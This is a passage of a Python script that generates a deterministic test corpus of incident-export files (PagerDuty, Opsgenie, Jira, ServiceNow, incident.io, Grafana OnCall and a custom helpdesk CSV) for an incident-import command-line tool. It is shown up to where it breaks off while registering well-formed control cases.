#!/usr/bin/env python3
"""Generate the bad-input corpus for `insight import`, byte for byte and deterministically.

    python3 make_corpus.py                  # (re)write every corpus file
    python3 make_corpus.py --list           # file|timezone|source|mapping|rows, one case a line
    python3 make_corpus.py --manifest DIR   # rewrite expected.json from a run's results (see run_corpus.sh)

Every case is registered with add(): its path under this folder, its exact bytes, why it exists, how many records it
holds (`rows`, used to catch silently lost rows) and, where the snapshot CLI of the time was wrong or cannot read the
file yet (.zip/.gz/.xlsx), `predict`: what a correct importer should report instead. expected.json is the
observed outcome of the CLI for every case without a prediction, and the prediction (marked "predicted": true, with
what the snapshot did in "snapshot") for the others.

expected.json, one entry per case: "file" (relative to this folder), "why", optional "timezone" / "source" /
"mapping" (a path relative to this folder) to pass as --timezone / --source / --mapping, then either
  "expect": "imported", "format", "read", "inserted", "rejected" (+ "updated"/"superseded"/... when not 0,
            "reject_reasons": short prefixes of the reject reasons, "encoding"/"line_ends" for encoding/,
            "stored": the instants kept, in UTC, for timestamps/)
  "expect": "refused", "reason" (a case-sensitive substring of the message), "line" (the physical line it names)
  "expect": "container", "entries": [one outcome per archive entry, as above plus "name"] (.zip/.gz/.xlsx).
"""
import gzip
import io
import json
import os
import random
import struct
import sys
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
CASES = []


def add(path, data, why, rows=None, **kw):
    assert isinstance(data, (bytes, bytearray)), path
    assert len(data) < 200 * 1024, (path, len(data))
    assert all(c["file"] != path for c in CASES), path
    CASES.append(dict(file=path, data=bytes(data), why=why, rows=rows, **kw))


# --------------------------------------------------------------------------------------------------------------------
# CSV helpers

def cell(v, sep=","):
    v = "" if v is None else str(v)
    if any(ch in v for ch in sep + '"\r\n'):
        return '"' + v.replace('"', '""') + '"'
    return v


def csv_text(header, rows, eol="\n", sep=","):
    lines = [sep.join(cell(h, sep) for h in header)]
    for r in rows:
        if isinstance(r, dict):
            lines.append(sep.join(cell(r.get(h, ""), sep) for h in header))
        else:
            lines.append(sep.join(cell(v, sep) for v in r))
    return eol.join(lines) + eol


def row(header, **kv):
    return {h: kv.get(h, "") for h in header}


# PagerDuty Analytics incident CSV (tests/.../pagerduty/analytics-incidents.csv)
PD_HDR = ("id,incident_number,description,status,urgency,major,priority_id,priority_name,priority_order,service_id,"
          "service_name,team_id,team_name,escalation_policy_id,escalation_policy_name,created_at,resolved_at,"
          "auto_resolved,resolved_by_user_id,resolved_by_user_name,seconds_to_first_ack,seconds_to_resolve").split(",")


def pd_row(i, **kv):
    base = dict(id=f"Q1CRP{i:04d}", incident_number=str(300 + i), description=f"Checkout 5xx spike #{i}",
                status="resolved", urgency="high", major="false", priority_id="PPRI1", priority_name="P1",
                priority_order="1", service_id="PSVC1", service_name="checkout-api", team_id="PT1", team_name="checkout",
                escalation_policy_id="PEP1", escalation_policy_name="checkout escalation",
                created_at=f"2026-03-{2 + i % 20:02d}T10:00:00Z", resolved_at=f"2026-03-{2 + i % 20:02d}T10:30:00Z",
                auto_resolved="false", resolved_by_user_id="PU1", resolved_by_user_name="Ana Silva",
                seconds_to_first_ack="120", seconds_to_resolve="1800")
    base.update(kv)
    return row(PD_HDR, **base)


def pd_rows():
    return [pd_row(1),
            pd_row(2, description="Kühlung ausgefallen – Rechenzentrum", status="acknowledged", urgency="high",
                   priority_name="P2", priority_id="PPRI2", priority_order="2", service_name="facilities",
                   team_name="datacenter", resolved_at="", resolved_by_user_name="", resolved_by_user_id="",
                   seconds_to_first_ack="300", seconds_to_resolve=""),
            pd_row(3, description="Queue backlog growing", status="triggered", urgency="low", priority_id="",
                   priority_name="", priority_order="", service_name="ledger", team_name="payments", resolved_at="",
                   resolved_by_user_id="", resolved_by_user_name="", seconds_to_first_ack="", seconds_to_resolve="")]


PD_LEGACY_HDR = ("incident_number,description,service_id,service_name,escalation_policy_id,escalation_policy_name,"
                 "created_on,resolved_on,seconds_to_first_ack,seconds_to_resolve,auto_resolved,acknowledge_count,"
                 "assignment_count,escalation_count,auto_escalation_count,acknowledged_by_user_ids,"
                 "acknowledged_by_user_names,resolved_by_user_id,resolved_by_user_name,assigned_to_user_ids,"
                 "assigned_to_user_names,urgency").split(",")


def legacy_row(n, **kv):
    base = dict(incident_number=str(n), description=f"Disk full on db-{n}", service_id="PSVC9", service_name="billing-api",
                escalation_policy_id="PEP9", escalation_policy_name="billing escalation",
                created_on="2026-03-08 01:30:00", resolved_on="2026-03-08 03:30:00", seconds_to_first_ack="60",
                seconds_to_resolve="7200", auto_resolved="false", acknowledge_count="1", assignment_count="1",
                escalation_count="0", auto_escalation_count="0", acknowledged_by_user_ids="PU7",
                acknowledged_by_user_names="Chloe Okafor", resolved_by_user_id="PU7", resolved_by_user_name="Chloe Okafor",
                assigned_to_user_ids="PU7", assigned_to_user_names="Chloe Okafor", urgency="high")
    base.update(kv)
    return row(PD_LEGACY_HDR, **base)


# Opsgenie alert list CSV (tests/.../opsgenie/alerts.csv)
OG_HDR = ("Id,TinyId,Alias,Message,Status,Acknowledged,IsSeen,Snoozed,Count,CreatedAt,UpdatedAt,LastOccurredAt,Source,"
          "Owner,Priority,Teams,Tags,Entity,AckTime,CloseTime,AcknowledgedBy,ClosedBy").split(",")


def og_row(i, **kv):
    base = dict(Id=f"c0ffee00-0000-4000-8000-{i:012d}", TinyId=str(i), Alias=f"checkout-api:HighErrorRate-{i}",
                Message=f"[checkout-api] High 5xx error rate #{i}", Status="closed", Acknowledged="true", IsSeen="true",
                Snoozed="false", Count="1", CreatedAt=f"2026-03-{2 + i % 20:02d}T11:00:00.000Z",
                UpdatedAt=f"2026-03-{2 + i % 20:02d}T11:40:00.000Z", LastOccurredAt=f"2026-03-{2 + i % 20:02d}T11:00:00.000Z",
                Source="Alertmanager", Owner="ana.silva@acmeloop.example", Priority="P2", Teams="checkout",
                Tags="service:checkout-api,env:production", Entity="checkout-api", AckTime="300000", CloseTime="2400000",
                AcknowledgedBy="ana.silva@acmeloop.example", ClosedBy="ana.silva@acmeloop.example")
    base.update(kv)
    return row(OG_HDR, **base)


def og_rows():
    return [og_row(1),
            og_row(2, Message="Kühlung ausgefallen – Rechenzentrum", Status="open", Acknowledged="false",
                   Tags="service:facilities", Entity="facilities", Teams="datacenter", AckTime="", CloseTime="",
                   AcknowledgedBy="", ClosedBy=""),
            og_row(3, Message="Queue backlog growing", Priority="P4", Status="closed", Acknowledged="false", Count="7",
                   AckTime="", CloseTime="43200000", AcknowledgedBy="", ClosedBy="System")]


# Jira "all fields" CSV (tests/.../jira/issues-all-fields.csv): repeated Component/s, Watchers, Labels, Comment
JIRA_HDR = ("Summary,Issue key,Issue id,Issue Type,Status,Project key,Project name,Priority,Resolution,Assignee,"
            "Assignee Id,Reporter,Reporter Id,Created,Updated,Last Viewed,Resolved,Component/s,Component/s,Due date,"
            "Description,Watchers,Watchers,Labels,Labels,Custom field (Affected services),Custom field (Severity),"
            "Custom field (Team),Custom field (Time to first response),Custom field ([CHART] Date of First Response),"
            "Comment,Comment,Status Category").split(",")


def jira_row(i, **kv):
    vals = dict(zip(["Summary", "Issue key", "Issue id", "Issue Type", "Status", "Project key", "Project name", "Priority",
                     "Resolution", "Assignee", "Assignee Id", "Reporter", "Reporter Id", "Created", "Updated",
                     "Last Viewed", "Resolved"],
                    [f"Checkout returns 502 #{i}", f"INC-{500 + i}", str(10500 + i), "[System] Incident", "Resolved", "INC",
                     "IT Incidents", "High", "Done", "Ana Silva", "5b10a2844c20165700ede21g", "Mia Support",
                     "5b10ac8d82e05b22cc7d4ef5", f"{2 + i % 20:02d}/Mar/26 10:00 AM", f"{2 + i % 20:02d}/Mar/26 11:10 AM",
                     "", f"{2 + i % 20:02d}/Mar/26 10:40 AM"]))
    vals.update({"Custom field (Affected services)": "checkout-api", "Custom field (Severity)": "Sev-2",
                 "Custom field (Team)": "payments", "Status Category": "Done"})
    vals.update({k.replace("_", " "): v for k, v in kv.items()})
    out = []
    seen = set()
    for h in JIRA_HDR:
        if h in seen:          # repeated columns: the first carries the value
            out.append("")
            continue
        seen.add(h)
        out.append(vals.get(h, ""))
    return out


def jira_rows():
    return [jira_row(1),
            jira_row(2, Summary="Kühlung ausgefallen – Rechenzentrum", Status="In Progress", Resolution="",
                     Resolved="", **{"Status Category": "In Progress"}),
            jira_row(3, Summary="Queue backlog growing", Status="Open", Resolution="", Resolved="", Priority="Low",
                     **{"Status Category": "To Do", "Custom field (Severity)": ""})]


# ServiceNow incident list CSV, field names (tests/.../servicenow/incidents.csv)
SN_HDR = ("number,short_description,opened_at,resolved_at,closed_at,priority,state,assignment_group,assigned_to,"
          "caller_id,opened_by,cmdb_ci,business_service,category,contact_type,sys_mod_count,sys_updated_on").split(",")


def sn_row(i, **kv):
    base = dict(number=f"INC00{30000 + i}", short_description=f"VPN down for remote staff #{i}",
                opened_at=f"2026-03-{2 + i % 20:02d} 09:00:00", resolved_at=f"2026-03-{2 + i % 20:02d} 11:15:00",
                closed_at="", priority="2 - High", state="Resolved", assignment_group="Network", assigned_to="Ana Silva",
                caller_id="Mia Support", opened_by="Mia Support", cmdb_ci="vpn-gw-1", business_service="Remote Access",
                category="network", contact_type="phone", sys_mod_count="3",
                sys_updated_on=f"2026-03-{2 + i % 20:02d} 11:15:00")
    base.update(kv)
    return row(SN_HDR, **base)


def sn_rows():
    return [sn_row(1),
            sn_row(2, short_description="Kühlung ausgefallen – Rechenzentrum", priority="1 - Critical",
                   state="In Progress", resolved_at="", assignment_group="Facilities", assigned_to="Jürgen Müller",
                   sys_mod_count="1"),
            sn_row(3, short_description="Printer queue stuck, floor 3", priority="4 - Low", state="New", resolved_at="",
                   assigned_to="", sys_mod_count="0")]


SN_LABEL_HDR = ["Number", "Short description", "Opened", "Resolved", "Priority", "State", "Assignment group",
                "Assigned to", "Caller", "Configuration item", "Service", "Category", "Channel", "Updates", "Updated"]

# incident.io incidents CSV (tests/.../incidentio/incidents.csv)
IIO_HDR = ("ID,Reference,Name,Status,Status Category,Severity,Incident Type,Created At,Impact Started At,Accepted At,"
           "Mitigated At,Resolved At,Closed At,Reporter,Incident Lead,Affected Services,Team,Postmortem Document URL,"
           "Permalink,Custom Field: Customer Impact").split(",")


def iio_row(i, **kv):
    base = {"ID": f"01HZCORPUS{i:016d}", "Reference": f"INC-{700 + i}", "Name": f"Login page blank #{i}",
            "Status": "Closed", "Status Category": "closed", "Severity": "Major", "Incident Type": "Default",
            "Created At": f"2026-03-{2 + i % 20:02d} 01:30:00", "Impact Started At": f"2026-03-{2 + i % 20:02d} 01:10:00",
            "Accepted At": f"2026-03-{2 + i % 20:02d} 01:40:00", "Mitigated At": "",
            "Resolved At": f"2026-03-{2 + i % 20:02d} 04:00:00", "Closed At": f"2026-03-{2 + i % 20:02d} 09:00:00",
            "Reporter": "Mia Support", "Incident Lead": "Ana Silva", "Affected Services": "identity-api",
            "Team": "identity", "Postmortem Document URL": "",
            "Permalink": f"https://app.incident.io/acme/incidents/{700 + i}", "Custom Field: Customer Impact": "High"}
    base.update({k.replace("_", " "): v for k, v in kv.items()})
    return row(IIO_HDR, **base)


def iio_rows():
    return [iio_row(1),
            iio_row(2, Name="Kühlung ausgefallen – Rechenzentrum", Status="Investigating", **{
                "Status Category": "live", "Resolved At": "", "Closed At": "", "Severity": "Critical"}),
            iio_row(3, Name="Queue backlog growing", Status="Triage", **{
                "Status Category": "triage", "Accepted At": "", "Resolved At": "", "Closed At": "", "Severity": "Minor"})]


# A CSV no built-in format reads, with generic/helpdesk.yaml (semicolons, d/m/Y dates, Berlin time)
GEN_HDR = ["Ticket", "Subject", "Opened", "Closed", "Prio", "Component", "Team", "Reported by", "State"]
HELPDESK_YAML = """# Acme's helpdesk export: semicolon-separated, day/month/year dates in Berlin time, words for priorities.
source: acme-helpdesk
entity: incident
timezone: Europe/Berlin
date_formats: ["%d/%m/%Y %H:%M"]
columns:
  external_id: Ticket
  title: Subject
  created_at: [Opened, Created]
  resolved_at: Closed
  severity_raw: Prio
  service: Component
  team: Team
  declared_by: Reported by
  status_raw: State
severity:
  Urgent: SEV1
  High: SEV2
  Low: SEV4
status:
  Done: resolved
  In progress: acknowledged
"""


def gen_rows():
    return [row(GEN_HDR, Ticket="HD-101", Subject="Checkout down; customers see 502", Opened="02/03/2026 09:15",
                Closed="02/03/2026 10:45", Prio="Urgent", Component="checkout-api", Team="checkout",
                **{"Reported by": "ana@acme.example"}, State="Done"),
            row(GEN_HDR, Ticket="HD-102", Subject="Kühlung ausgefallen – Rechenzentrum", Opened="03/03/2026 08:00",
                Closed="", Prio="High", Component="facilities", Team="datacenter",
                **{"Reported by": "jürgen@acme.example"}, State="In progress"),
            row(GEN_HDR, Ticket="HD-103", Subject="Invoice PDF blank", Opened="05/03/2026 12:00", Closed="", Prio="Low",
                Component="billing", Team="billing", State="In progress")]


def gen_text(rows=None, eol="\n"):
    return csv_text(GEN_HDR, gen_rows() if rows is None else rows, eol=eol, sep=";")


# --------------------------------------------------------------------------------------------------------------------
# JSON record builders (shapes from the fixtures)

def pd_inc(i, **kv):
    iid = f"Q0CRP{i:09d}"
    r = {"id": iid, "type": "incident", "summary": f"[#{1100 + i}] Checkout 500s #{i}",
         "self": f"https://api.pagerduty.com/incidents/{iid}", "html_url": f"https://acme.pagerduty.com/incidents/{iid}",
         "incident_number": 1100 + i, "title": f"Checkout 500s #{i}", "description": f"Checkout 500s #{i}",
         "created_at": f"2026-03-{2 + i % 20:02d}T00:50:00Z", "updated_at": f"2026-03-{2 + i % 20:02d}T02:20:00Z",
         "status": "resolved", "incident_key": f"checkout-5xx-{i}",
         "service": {"id": "PSVC001", "type": "service_reference", "summary": "checkout-api"},
         "assignments": [], "last_status_change_at": f"2026-03-{2 + i % 20:02d}T02:20:00Z",
         "last_status_change_by": {"id": "PUSR01", "type": "user_reference", "summary": "Ana Silva"},
         "alert_counts": {"all": 3, "triggered": 0, "resolved": 3},
         "escalation_policy": {"id": "PEP01", "type": "escalation_policy_reference", "summary": "Checkout on-call"},
         "teams": [{"id": "PTEAM1", "type": "team_reference", "summary": "payments"}],
         "acknowledgements": [], "priority": {"id": "PPRI1", "type": "priority", "summary": "P1"},
         "urgency": "high", "resolved_at": f"2026-03-{2 + i % 20:02d}T02:20:00Z"}
    r.update(kv)
    return r


def pd_incs():
    return [pd_inc(1),
            pd_inc(2, title="Kühlung ausgefallen – Rechenzentrum", status="acknowledged", resolved_at=None,
                   acknowledgements=[{"at": "2026-03-04T00:55:00Z", "acknowledger": {"id": "PUSR02",
                                      "type": "user_reference", "summary": "Jürgen Müller"}}]),
            pd_inc(3, title="Queue backlog growing", status="triggered", resolved_at=None, urgency="low", priority=None)]


def pd_log(i, kind="acknowledge", **kv):
    r = {"id": f"RCRP{i:06d}", "type": f"{kind}_log_entry", "summary": f"{kind.title()}d by Ana Silva.",
         "self": f"https://api.pagerduty.com/log_entries/RCRP{i:06d}", "html_url": None,
         "created_at": f"2026-03-02T01:{i % 60:02d}:00Z",
         "agent": {"id": "PUSR01", "type": "user_reference", "summary": "Ana Silva"}, "channel": {"type": "mobile"},
         "incident": {"id": "Q0CRP000000001", "type": "incident_reference"}}
    r.update(kv)
    return r


def pd_logs():
    return [pd_log(1, "trigger", summary="Triggered through the API.",
                   agent={"id": "PSVC001", "type": "service_reference", "summary": "checkout-api"},
                   channel={"type": "api"}),
            pd_log(2, "acknowledge", agent={"id": "PUSR02", "type": "user_reference", "summary": "Jürgen Müller"},
                   summary="Acknowledged by Jürgen Müller – on call."),
            pd_log(3, "resolve", summary="Resolved by Ana Silva.")]


def og_alert(i, **kv):
    r = {"id": f"70413a06-38d6-4c85-92b8-{i:012d}", "tinyId": str(1800 + i), "alias": f"event_{i}",
         "message": f"CPU > 90% on web-{i}", "status": "closed", "acknowledged": True, "isSeen": True,
         "tags": ["env:prod", "service:web-frontend"], "snoozed": False, "count": 3,
         "lastOccurredAt": f"2026-03-{2 + i % 20:02d}T01:40:00.000Z", "createdAt": f"2026-03-{2 + i % 20:02d}T00:30:00.125Z",
         "updatedAt": f"2026-03-{2 + i % 20:02d}T02:00:00Z", "source": "Isengard", "owner": "morpheus@opsgenie.com",
         "priority": "P2", "teams": [{"id": "8418d193-2dab-4490-b331-8c02cdd196b7", "name": "web"}],
         "integration": {"id": "4513b7ea-3b91-438f-b7e4-e3e54af9147c", "name": "Alertmanager", "type": "Prometheus"},
         "report": {"ackTime": 15702, "closeTime": 5400000, "acknowledgedBy": "morpheus@opsgenie.com",
                    "closedBy": "System"}}
    r.update(kv)
    return r


def og_alerts():
    return [og_alert(1),
            og_alert(2, message="Kühlung ausgefallen – Rechenzentrum", status="open", acknowledged=False, report={}),
            og_alert(3, message="Disk free < 10% on db-1", priority="P4", count=1, teams=[{"id": "team-db-id"}],
                     report={"closeTime": 60000, "closedBy": "Grafana"})]


def og_inc(i, **kv):
    r = {"id": f"4e6b2a10-2a5b-4c58-9c8c-{i:012d}", "tinyId": str(80 + i), "message": f"Payments degraded #{i}",
         "description": "Card authorisation failing", "status": "resolved", "priority": "P1",
         "tags": ["payments"], "createdAt": f"2026-03-{2 + i % 20:02d}T00:50:00Z",
         "updatedAt": f"2026-03-{2 + i % 20:02d}T05:00:00Z", "impactedServices": ["9f1e6f3c-0b0e-4b5e-9d3c-2b9b3d5a8f10"],
         "ownerTeam": "payments", "extraProperties": {"service": "payments-api", "reporter": "support@acme.example",
                                                       "commander": "Ana Silva"},
         "links": {"web": f"https://acme.app.opsgenie.com/incident/detail/{80 + i}"},
         "impactStartDate": f"2026-03-{2 + i % 20:02d}T00:41:00Z", "impactEndDate": f"2026-03-{2 + i % 20:02d}T02:10:00Z"}
    r.update(kv)
    return r


def og_incs():
    return [og_inc(1),
            og_inc(2, message="Kühlung ausgefallen – Rechenzentrum", status="open", priority="P2",
                   impactEndDate=None, extraProperties={"commander": "Jürgen Müller"}),
            og_inc(3, message="Search slow", status="open", priority="P3", impactEndDate=None)]


def jira_issue(i, **kv):
    fields = {"summary": f"Login failures #{i}", "issuetype": {"id": "10004", "name": "Incident", "subtask": False},
              "status": {"id": "10002", "name": "Done", "statusCategory": {"id": 3, "key": "done", "name": "Done"}},
              "priority": {"id": "2", "name": "High"}, "resolution": {"id": "10000", "name": "Done"},
              "resolutiondate": f"2026-03-{2 + i % 20:02d}T04:30:00.000+0100",
              "created": f"2026-03-{2 + i % 20:02d}T01:50:00.000+0100",
              "updated": f"2026-03-{2 + i % 20:02d}T06:00:00.000+0100",
              "assignee": {"accountId": "5b10a2844c20165700ede21g", "displayName": "Ana Silva"},
              "reporter": {"accountId": "5b10ac8d82e05b22cc7d4ef5", "displayName": "Mia Support"},
              "project": {"id": "10000", "key": "OPS", "name": "Ops"},
              "components": [{"id": "10010", "name": "identity-api"}], "labels": ["auth"]}
    fields.update(kv.pop("fields", {}))
    r = {"expand": "operations,versionedRepresentations,editmeta,changelog,renderedFields", "id": str(20100 + i),
         "self": f"https://acme.atlassian.net/rest/api/3/issue/{20100 + i}", "key": f"OPS-{100 + i}", "fields": fields,
         "changelog": {"startAt": 0, "maxResults": 1, "total": 1, "histories": [
             {"id": str(i), "author": {"accountId": "x", "displayName": "Ana Silva"},
              "created": f"2026-03-{2 + i % 20:02d}T02:05:00.000+0100",
              "items": [{"field": "status", "fieldtype": "jira", "fieldId": "status", "from": "1", "fromString": "Open",
                         "to": "3", "toString": "In Progress"}]}]}}
    r.update(kv)
    return r


def jira_issues():
    return [jira_issue(1),
            jira_issue(2, fields={"summary": "Kühlung ausgefallen – Rechenzentrum", "resolutiondate": None,
                                  "status": {"name": "In Progress", "statusCategory": {"key": "indeterminate"}}}),
            jira_issue(3, fields={"summary": "Queue backlog", "resolutiondate": None, "priority": {"name": "Low"},
                                  "status": {"name": "Open", "statusCategory": {"key": "new"}}, "assignee": None},
                       changelog={"startAt": 0, "maxResults": 0, "total": 0, "histories": []})]


def sn_rec(i, **kv):
    r = {"sys_id": f"9d385017c611228701d22104cc95{i:04d}", "number": f"INC00{40000 + i}",
         "short_description": f"Email delays #{i}", "opened_at": f"2026-03-{2 + i % 20:02d} 01:10:00",
         "resolved_at": f"2026-03-{2 + i % 20:02d} 03:00:00", "closed_at": "", "priority": "1", "state": "6",
         "assignment_group": {"link": "https://acme.service-now.com/api/now/table/sys_user_group/287ebd7d",
                              "value": "287ebd7da9fe198100f92cc8d1d2154e"},
         "assigned_to": "", "caller_id": "", "cmdb_ci": "", "business_service": "", "category": "software",
         "contact_type": "monitoring", "sys_mod_count": "4", "sys_updated_on": f"2026-03-{2 + i % 20:02d} 03:00:00"}
    r.update(kv)
    return r


def sn_recs():
    return [sn_rec(1),
            sn_rec(2, short_description="Kühlung ausgefallen – Rechenzentrum", state="2", resolved_at="", priority="2"),
            sn_rec(3, short_description="Printer queue stuck, floor 3", state="1", resolved_at="", priority="4",
                   sys_mod_count="0")]


def sn_all(i, **kv):
    """sysparm_display_value=all: every field {"display_value", "value"}."""
    raw = sn_rec(i)
    disp = {"priority": {"1": "1 - Critical", "2": "2 - High", "4": "4 - Low"},
            "state": {"1": "New", "2": "In Progress", "6": "Resolved"}}
    out = {"sys_id": raw["sys_id"]}
    for k, v in raw.items():
        if k == "sys_id":
            continue
        if isinstance(v, dict):
            out[k] = {"display_value": "Messaging", "value": v["value"], "link": v["link"]}
        else:
            out[k] = {"display_value": disp.get(k, {}).get(v, v), "value": v}
    out.update(kv)
    return out


def iio_inc(i, **kv):
    r = {"id": f"01FDCORPUS{i:016d}", "reference": f"INC-{900 + i}", "name": f"Checkout failing #{i}",
         "summary": "Card payments failing for EU customers", "permalink": f"https://app.incident.io/acme/incidents/{900 + i}",
         "created_at": f"2026-03-{2 + i % 20:02d}T00:20:00.801578Z", "updated_at": f"2026-03-{2 + i % 20:02d}T06:00:00Z",
         "mode": "standard", "visibility": "public",
         "incident_status": {"id": "01FCNDV6P870EA6S7TK1DSYDG0", "name": "Closed", "category": "closed", "rank": 4},
         "severity": {"id": "01FCNDV6P870EA6S7TK1DSYDG1", "name": "Major", "rank": 2},
         "incident_type": {"id": "01FH5TZRWMNAFB0DZ23FD1TV96", "name": "Payments"},
         "creator": {"user": {"id": "01G0J1EXE7AXZ2C93K61WBPYEH", "name": "Mia Support"}},
         "incident_role_assignments": [
             {"role": {"id": "r2", "name": "Incident Lead", "role_type": "lead"},
              "assignee": {"id": "u2", "name": "Ana Silva"}}],
         "custom_field_entries": [
             {"custom_field": {"id": "c1", "name": "Affected services", "field_type": "multi_select"},
              "values": [{"value_catalog_entry": {"id": "e1", "name": "payments-api"}}]}],
         "incident_timestamp_values": [
             {"incident_timestamp": {"id": "t1", "name": "Impact started", "rank": 1},
              "value": {"value": f"2026-03-{2 + i % 20:02d}T00:10:00Z"}},
             {"incident_timestamp": {"id": "t5", "name": "Resolved", "rank": 5},
              "value": {"value": f"2026-03-{2 + i % 20:02d}T01:40:00Z"}}]}
    r.update(kv)
    return r


def iio_incs():
    return [iio_inc(1),
            iio_inc(2, name="Kühlung ausgefallen – Rechenzentrum",
                    incident_status={"name": "Investigating", "category": "live"}, incident_timestamp_values=[]),
            iio_inc(3, name="Error rate high on search", incident_status={"name": "Triage", "category": "triage"},
                    creator={"workflow": {"id": "w1", "name": "Auto-declare from alert"}},
                    incident_role_assignments=[], custom_field_entries=[], incident_timestamp_values=[])]


def gr_group(i, **kv):
    gid = f"I68CRP{i:07d}"
    r = {"id": gid, "integration_id": "CFRPV98RPR1U8", "route_id": "RIYGUJXCPFHXY", "team_id": "TI73TDU19W48J",
         "alerts_count": 12, "state": "resolved", "created_at": f"2026-03-{2 + i % 20:02d}T00:37:01.430444Z",
         "resolved_at": f"2026-03-{2 + i % 20:02d}T01:37:01.429805Z", "resolved_by": None, "acknowledged_at": None,
         "acknowledged_by": None, "title": f"Memory above 90% threshold | node-{i}",
         "permalinks": {"slack": None, "telegram": None, "web": f"https://oncall.acme.example/alert-groups/{gid}"},
         "silenced_at": None,
         "labels": [{"key": {"id": "k1", "name": "alertname"}, "value": {"id": "v1", "name": "HighMemory"}},
                    {"key": {"id": "k2", "name": "service"}, "value": {"id": "v2", "name": "cache"}},
                    {"key": {"id": "k3", "name": "severity"}, "value": {"id": "v3", "name": "warning"}}]}
    r.update(kv)
    return r


def gr_groups():
    return [gr_group(1),
            gr_group(2, title="Kühlung ausgefallen – Rechenzentrum", state="acknowledged", resolved_at=None,
                     acknowledged_at="2026-03-04T00:40:00Z", acknowledged_by="U4DNY931HHJS5", alerts_count=1, labels=[]),
            gr_group(3, title="Probe failed", state="new", resolved_at=None, alerts_count=2,
                     labels=[{"key": {"name": "severity"}, "value": {"name": "critical"}}])]


def wrap(fmt, records):
    n = len(records)
    if fmt == "pd-json":
        return {"incidents": records, "limit": 25, "offset": 0, "total": None, "more": False}
    if fmt == "pdlog-json":
        return {"log_entries": records, "limit": 100, "offset": 0, "total": None, "more": False}
    if fmt in ("ogalert-json", "oginc-json"):
        return {"data": records, "took": 0.011, "requestId": "9ae63dd7-ed00-4c81-86f0-c4ffd33142c9"}
    if fmt == "jira-json":
        return {"expand": "schema,names", "startAt": 0, "maxResults": 50, "total": n, "issues": records}
    if fmt == "sn-json":
        return {"result": records}
    if fmt == "iio-json":
        return {"incidents": records, "pagination_meta": {"after": None, "page_size": 25}}
    if fmt == "grafana-json":
        return {"count": n, "next": None, "previous": None, "results": records}
    raise KeyError(fmt)


JSON_FMTS = {  # short name: (records(), record builder, wrapper key, format id)
    "pd-json": (pd_incs, pd_inc, "incidents", "pagerduty-incidents-json"),
    "pdlog-json": (pd_logs, pd_log, "log_entries", "pagerduty-log-entries-json"),
    "ogalert-json": (og_alerts, og_alert, "data", "opsgenie-alerts-json"),
    "oginc-json": (og_incs, og_inc, "data", "opsgenie-incidents-json"),
    "jira-json": (jira_issues, jira_issue, "issues", "jira-search-json"),
    "sn-json": (sn_recs, sn_rec, "result", "servicenow-table-json"),
    "iio-json": (iio_incs, iio_inc, "incidents", "incidentio-incidents-json"),
    "grafana-json": (gr_groups, gr_group, "results", "grafana-oncall-alert-groups-json"),
}
JSON_NAMES = {"pd-json": "pagerduty-incidents", "pdlog-json": "pagerduty-log-entries", "ogalert-json": "opsgenie-alerts",
              "oginc-json": "opsgenie-incidents", "jira-json": "jira-search", "sn-json": "servicenow-table",
              "iio-json": "incidentio-incidents", "grafana-json": "grafana-alert-groups"}


def jtext(obj, indent=2):
    return json.dumps(obj, ensure_ascii=False, indent=indent) + "\n"


def json_text(fmt, records=None, indent=2):
    return jtext(wrap(fmt, JSON_FMTS[fmt][0]() if records is None else records), indent)


CSV_FMTS = {  # short name: (header, rows(), format id, extra add() options)
    "pagerduty": (PD_HDR, pd_rows, "pagerduty-incidents-csv", {}),
    "opsgenie": (OG_HDR, og_rows, "opsgenie-alerts-csv", {}),
    "jira": (JIRA_HDR, jira_rows, "jira-issues-csv", {}),
    "servicenow": (SN_HDR, sn_rows, "servicenow-incidents-csv", {}),
    "incidentio": (IIO_HDR, iio_rows, "incidentio-incidents-csv", {}),
    "generic": (GEN_HDR, gen_rows, "mapping", {"mapping": "generic/helpdesk.yaml"}),
}


def csv_fmt_text(name, rows=None, eol="\n"):
    hdr, mk, _, _ = CSV_FMTS[name]
    if name == "generic":
        return gen_text(rows, eol)
    return csv_text(hdr, mk() if rows is None else rows, eol=eol)


def opts(name):
    return dict(CSV_FMTS[name][3]) if name in CSV_FMTS else {}


ALL = list(CSV_FMTS) + list(JSON_FMTS)


def text_of(name):
    return csv_fmt_text(name) if name in CSV_FMTS else json_text(name)


def path_of(folder, name, suffix):
    if name in CSV_FMTS:
        return f"{folder}/{name}-{suffix}.csv"
    return f"{folder}/{JSON_NAMES[name]}-{suffix}.json"


U8 = lambda s: s.encode("utf-8")
BOM = b"\xef\xbb\xbf"

# ====================================================================================================================
# good/: well-formed controls, three records each, UTF-8 without BOM, \n line ends

def build_good():
    for n in ALL:
        add(path_of("good", n, "control"), U8(text_of(n)),
            "control: a well-formed small export (3 records, one with ü and an en dash)", rows=3, **opts(n))
    add("good/pagerduty-legacy-raw.csv",
        U8(csv_text(PD_LEGACY_HDR, [legacy_row(7), legacy_row(8, resolved_on="", seconds_to_resolve="",
                                                                 description="Queue backlog")])),
        "control: the legacy PagerDuty raw incidents report (incident_number as the key, created_on, naive times)",
        rows=2)
    add("good/servicenow-labels.csv",
        U8(csv_text(SN_LABEL_HDR, [["INC0031001", "Mail slow", "2026-03-04 12:00:00", "2026-03-04 14:00:00",
                                    "3 - Moderate", "Resolved", "Messaging", "Ana Silva", "Mia Support", "mail-1", "Email",
                                    "software", "Email", "4", "2026-03-04 14:00:00"],
                                   ["INC0031002", "VPN flaps", "2026-03-05 12:00:00", "", "2 - High", "In Progress",
                                    "Network", "", "Mia Support", "vpn-gw-1", "Remote Access", "network", "Phone", "1",
                                    "2026-03-05 12:30:00"]])),
        "control: ServiceNow list export with column labels instead of field names", rows=2)
    add("good/servicenow-table-display-all.json",
        U8(jtext({"result": [sn_all(1), sn_all(2)]})),
        "control: ServiceNow Table API with sysparm_display_value=all ({display_value, value} objects)", rows=2)
    add("good/servicenow-audit-versions.csv",
        U8(csv_text(SN_HDR, [sn_row(1, state="New", resolved_at="", sys_mod_count="0"), sn_row(1),
                             sn_row(1, state="In Progress", resolved_at="", sys_mod_count="1"), sn_row(2)])),
        "control: several versions of one ServiceNow incident; the highest sys_mod_count wins, the rest superseded",
        rows=4)
    add("good/pagerduty-minimal-columns-source.csv",
        U8("id,created_at\nPMIN1,2026-03-02T10:00:00Z\nPMIN2,2026-03-02T11:00:00Z\n"),
        "control: only the two required PagerDuty columns, format named with --source", rows=2,
        source="pagerduty-incidents-csv")
    add("good/jira-issues-es.csv",
